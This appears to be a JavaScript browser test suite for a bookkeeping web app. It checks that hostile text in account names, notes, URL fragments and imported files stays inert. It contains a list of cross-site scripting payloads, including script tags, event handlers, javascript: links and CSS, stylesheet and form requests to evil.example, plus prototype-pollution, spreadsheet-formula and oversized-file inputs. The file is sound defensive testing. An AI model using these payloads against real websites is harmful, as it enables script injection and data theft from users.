// Hostile text is inert: in names, notes, addresses and whole files it is shown as what it is; nothing runs, nothing is
// fetched, no policy is violated. (Every page test fails on a dialog, a violation or a request to somewhere else.)
import assert from "node:assert/strict";
import { accepted } from "./calls.mjs";
import { pageTest } from "./harness.mjs";
import { PAGES } from "./person.mjs";

const HOSTILE = [
  `<script>globalThis.__pwned = 1; alert(1)</script>`,
  `"><script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror="globalThis.__pwned = 1">`,
  `<svg onload="globalThis.__pwned = 1"><use href="https://evil.example/x.svg#y"/></svg>`,
  `javascript:globalThis.__pwned=1`,
  `<a href="javascript:globalThis.__pwned=1">total</a>`,
  `<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>`,
  `<style>*{background:url(https://evil.example/leak)}</style>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<form action="https://evil.example/"><button>Deposit</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=globalThis.__pwned=1>`,
  `\`\${globalThis.__pwned=1}\` {{constructor.constructor('globalThis.__pwned=1')()}}`,
  `' onmouseover='globalThis.__pwned=1' x='`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `</title></textarea></dialog></template><img src=x onerror=alert(1)>`,
  `\u202Egnp.exe\u2066 \u0000\u0008\u001b[31m`,
  `=HYPERLINK("https://evil.example","12.00")`,
  `__proto__`,
  `{account} {why} {0} %s %n`,
];

async function isInert(person, t) {
  for (const name of PAGES) {
    await person.visit(name);
    await person.page.mouse.move(400, 300);
  }
  const found = await person.page.evaluate(() => ({
    ran: globalThis.__pwned,
    base: document.querySelectorAll("base, iframe, object, embed, meta[http-equiv=refresh]").length,
    scripts: document.querySelectorAll("main script, main img, main style, main link, main form[action], dialog script").length,
    links: [...document.querySelectorAll("a[href]")].map((link) => link.protocol).filter((protocol) => !/^(https?|blob):$/.test(protocol)),
    origin: location.origin,
    polluted: {}.polluted,
  }));
  assert.deepEqual(found, { ran: undefined, base: 0, scripts: 0, links: [], origin: person.origin, polluted: undefined });
  t.diagnostic(`${HOSTILE.length} texts on ${PAGES.length} pages`);
}

pageTest("hostile names, categories, counterparties and notes are shown as text and do nothing", async (bring, t) => {
  const person = await bring();
  await accepted(person, { type: "OpenBook", name: HOSTILE[0], base_currency: "EUR", actor: HOSTILE[2] });
  for (const text of HOSTILE) {
    const [{ data }] = await accepted(person, { type: "OpenAccount", name: text, currency: "EUR", opening_balance: "10" });
    assert.equal(data.name, text);
    const [entry] = await accepted(person, {
      type: "DepositMoney", account: data.account, amount: "1", category: text, counterparty: text, note: text, actor: text,
      origin: { file: text, sha256: "00".repeat(32), row: 1, bank_id: text },
    });
    assert.deepEqual([entry.data.note, entry.data.category, entry.data.origin.file], [text, text, text]);
    await accepted(person, { type: "FreezeAccount", account: data.account, reason: text });
  }
  await isInert(person, t);
  const accounts = await person.accountLinks();
  for (let index = 0; index < accounts; index += 7) await person.visitAccountNumber(index);
  await person.visit("Journal");
  const shown = await person.page.getByRole("main").innerText();
  assert.ok(shown.includes(HOSTILE[2]), "it can be read as what it is");
  await person.reload();
  await isInert(person, t);
  const { file, text } = await person.export();
  const other = await bring();
  await other.import(text, file.fingerprint);
  await isInert(other, t);
});

pageTest("a hostile address leads somewhere harmless", async (bring) => {
  const person = await bring();
  await accepted(person, { type: "OpenBook", name: "Addressed", base_currency: "EUR" });
  for (const text of HOSTILE) {
    const part = encodeURIComponent(text);
    for (const address of [`#/journal?q=${part}`, `#/journal?category=${part}&account=${part}`, `#/${part}`, `#/accounts/${part}`, `#${text.replace(/\s/g, "")}`]) {
      await person.page.evaluate((fragment) => void (location.hash = fragment), address);
    }
    await person.settled();
  }
  assert.equal(await person.page.evaluate(() => globalThis.__pwned), undefined);
  await person.visit("Overview");
});

const FILES = {
  "an event twice": ({ events, ...file }) => JSON.stringify({ ...file, events: [...events, events.at(-1)], count: events.length + 1 }),
  "two events in each other's place": ({ events, ...file }) =>
    JSON.stringify({ ...file, events: [...events.slice(0, -2), events.at(-1), events.at(-2)] }),
  "a member named __proto__": (file) => JSON.stringify(file).replace('"events":', '"__proto__":{"polluted":1},"events":'),
  "a hostile type": (file) => JSON.stringify(file).replace('"RenameBook"', JSON.stringify(HOSTILE[0])).replace('"BookRenamed"', JSON.stringify(HOSTILE[2])),
  "half of itself": (file) => JSON.stringify(file).slice(0, 500),
  "nothing but depth": () => `{"format":"daybook","version":1,"events":[${'{"data":'.repeat(50_000)}`,
  "forty megabytes of something else": () => `{"format":"daybook","version":1,"x":"${"x".repeat(40_000_000)}"}`,
};
for (const [name, make] of Object.entries(FILES)) {
  pageTest(`a file with ${name} is refused by name, and the book is as it was`, async (bring) => {
    const person = await bring();
    await accepted(person, { type: "OpenBook", name: "Refuses", base_currency: "EUR" });
    await accepted(person, { type: "RenameBook", name: "Refuses still" });
    const { file, text } = await person.export();
    const before = await person.fingerprint();
    await person.choose(make(file));
    const alert = person.page.getByRole("main").getByRole("alert").filter({ hasText: /\S/ });
    await alert.first().waitFor();
    const said = await alert.first().innerText();
    assert.ok(said.length < 600, "what is wrong is said, not repeated");
    assert.equal(await person.fingerprint(), before);
    assert.equal(await person.page.evaluate(() => [globalThis.__pwned, {}.polluted].join()), ",");
    const again = await person.export();
    const undated = (whole) => whole.replace(/"exported_at": "[^"]*"/, "");
    assert.equal(undated(again.text), undated(text), "log identical before and after");
  });
}
